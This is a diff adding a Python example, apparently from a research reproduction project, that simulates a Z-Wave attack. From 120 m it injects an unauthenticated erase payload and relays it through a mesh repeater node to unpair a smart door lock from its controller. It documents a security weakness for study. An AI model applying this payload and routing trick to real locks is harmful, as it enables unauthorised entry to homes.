@@ -1,0 +1,65 @@
+#!/usr/bin/env python3
+"""Extending the attack range through the Z-Wave mesh.
+
+The paper's attacker works from 10-70 m.  This example shows why the
+radius is really bounded by the *mesh*, not by the attacker's radio: from
+120 m — beyond the controller's sensitivity floor — the Table III erase
+payload still lands by bouncing off a mains-powered repeater node in the
+garden, using an ordinary routed singlecast.
+
+Usage::
+
+    python examples/mesh_attack.py
+"""
+
+from repro.radio.medium import received_power_dbm
+from repro.simulator import LOCK_NODE_ID, build_sut
+from repro.simulator.routing import MeshRepeater, make_routed_frame
+from repro.zwave import ZWaveFrame
+
+
+def main() -> None:
+    print("=== Routing the attack through the mesh ===\n")
+    sut = build_sut("D1", seed=4, traffic=False, attacker_distance_m=120.0)
+    repeater = MeshRepeater(
+        "garden-repeater", sut.profile.home_id, 9, sut.clock, sut.medium,
+        position=(60.0, 0.0),
+    )
+    print(f"attacker at 120 m: direct link budget "
+          f"{received_power_dbm(120.0):.1f} dBm (floor is -95 dBm)")
+    print(f"repeater at  60 m: per-leg budget "
+          f"{received_power_dbm(60.0):.1f} dBm\n")
+
+    print("[1] direct injection from 120 m...")
+    direct = ZWaveFrame(
+        home_id=sut.profile.home_id, src=0x0F, dst=1,
+        payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),
+    )
+    for _ in range(20):
+        sut.dongle.inject(direct)
+        sut.clock.advance(0.3)
+    print(f"    controller heard {sut.controller.stats.received} frames "
+          f"-> the lock is still paired: {LOCK_NODE_ID in sut.controller.nvm}\n")
+
+    print("[2] same payload as a routed singlecast via repeater node #9...")
+    routed = make_routed_frame(
+        sut.profile.home_id, 0x0F, 1, route=(9,),
+        payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),
+    )
+    attempts = 0
+    while LOCK_NODE_ID in sut.controller.nvm and attempts < 40:
+        sut.dongle.inject(routed)
+        sut.clock.advance(0.3)
+        attempts += 1
+    print(f"    repeater relayed {repeater.frames_relayed} frame(s); "
+          f"attack landed after {attempts} attempt(s)")
+    print(f"    lock still paired: {LOCK_NODE_ID in sut.controller.nvm}")
+    assert LOCK_NODE_ID not in sut.controller.nvm
+
+    print("\nEvery mains-powered slave is a free range extender for the")
+    print("attacker: the mesh relays unauthenticated payloads as happily")
+    print("as legitimate ones.")
+
+
+if __name__ == "__main__":
+    main()
